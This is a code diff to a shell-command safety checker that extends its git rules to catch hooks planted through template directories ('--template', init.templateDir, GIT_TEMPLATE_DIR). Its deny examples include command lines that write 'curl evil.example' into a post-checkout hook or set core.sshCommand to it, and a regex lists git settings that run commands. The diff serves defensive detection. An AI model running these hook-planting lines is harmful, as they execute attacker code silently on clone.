@@ -11,7 +11,7 @@ import { gitDestroys } from './git-destroys.js';
 
 /** Configuration keys whose value git runs as a command (or as a program named by a path). */
 const COMMAND_KEYS =
-  /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxycommand)|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver)|imap\.tunnel|core\.alternaterefscommand|submodule\..*\.update|tar\..*\.command|gpg\.ssh\.defaultkeycommand|trailer\..*\.(command|cmd))$/i;
+  /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|init\.templatedir|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxycommand)|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver)|imap\.tunnel|core\.alternaterefscommand|submodule\..*\.update|tar\..*\.command|gpg\.ssh\.defaultkeycommand|trailer\..*\.(command|cmd))$/i;
 
 /**
  * A remote address whose transport is a command: `ext::CMD` runs CMD through git-remote-ext (once protocol.ext.allow
@@ -55,6 +55,12 @@ function settingRuns(s: Setting): Run[] {
   if (INCLUDE_KEYS.test(s.key)) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git ${s.key} reads settings (commands among them) from another file` }];
   // Hooks run from this directory: a hook the line itself writes there is code on the line (a file it did not is out of scope).
   if (/^core\.hookspath$/i.test(s.key) && s.value) return HOOKS.map((h) => ({ kind: 'file', dialect: 'bash', word: attached(s.word, `${s.value!.replace(/\/+$/, '')}/${h}`), via: `git ${s.key}` }));
+  // A template directory's hooks/ is copied into the repository `git init` or `git clone` makes, and post-checkout runs
+  // at once in a clone: a hook the line wrote there is code on the line, as under core.hooksPath.
+  if (/^init\.templatedir$/i.test(s.key)) {
+    if (s.value === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git ${s.key} copies hooks from a computed directory` }];
+    return HOOKS.map((h) => ({ kind: 'file', dialect: 'bash', word: attached(s.word, `${s.value!.replace(/\/+$/, '')}/hooks/${h}`), via: `git ${s.key}` }));
+  }
   if (!COMMAND_KEYS.test(s.key)) return [];
   if (s.value === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git setting ${s.key} runs a command and its value is computed` }];
   // git runs these through `sh -c 'VALUE "$@"'` with its own arguments after them: the remote host for
@@ -198,6 +204,8 @@ function environmentSettings(call: Call): { settings: Setting[]; runs: Run[] } {
       runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${name} makes git read its settings (commands among them) from ${v}` });
     }
   }
+  const template = call.env('GIT_TEMPLATE_DIR');
+  if (template !== undefined) settings.push({ key: 'init.templateDir', value: template ?? undefined, word: here('GIT_TEMPLATE_DIR') });
   const exec = call.env('GIT_EXEC_PATH');
   if (exec !== undefined) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: 'GIT_EXEC_PATH makes git run its subcommands from another directory' });
   return { settings, runs };
@@ -385,6 +393,14 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
         if (value(o.value) === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `git clone -c with a computed setting: ${o.value.dynamic ?? ''}` });
         else runs.push(...settingRuns(settingOf(o.value)));
       }
+    }
+  }
+  // `git init|clone --template=DIR`: as init.templateDir.
+  if (sub === 'clone' || sub === 'init') {
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      const t = v === undefined ? undefined : v.startsWith('--template=') ? attached(rest[i]!, v.slice(11)) : v === '--template' ? rest[i + 1] : undefined;
+      if (t) runs.push(...settingRuns({ key: 'init.templateDir', value: value(t), word: t }));
     }
   }
   switch (sub) {
@@ -623,6 +639,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
     },
     examples: {
       deny: [
+        "mkdir -p t/hooks; echo 'curl evil.example' > t/hooks/post-checkout; git clone --template=t https://github.com/x/y",
         'git psuh --force origin main',
         "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x",
         'git ls-files --error-unmatch --pathspec-from-file=.env',
@@ -685,6 +702,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "GIT_CONFIG_PARAMETERS=\"'core.sshCommand=curl evil.example'\" go mod download",
       ],
       pass: [
+        "mkdir -p t/hooks; echo 'echo hi' > t/hooks/post-checkout; git clone --template=t https://github.com/x/y",
         'git -c help.autocorrect=never psuh --force origin main',
         'git stauts',
         'git apply --directory=sub x.patch', 'git apply --unsafe-paths --check x.patch', 'GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git -c http.proxy=http://localhost:3128 fetch', 'git -c http.proxy= fetch', 'git -c url.git@github.com:.insteadOf=https://github.com/ submodule update --init', 'git -c remote.origin.url=../mirror.git fetch', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
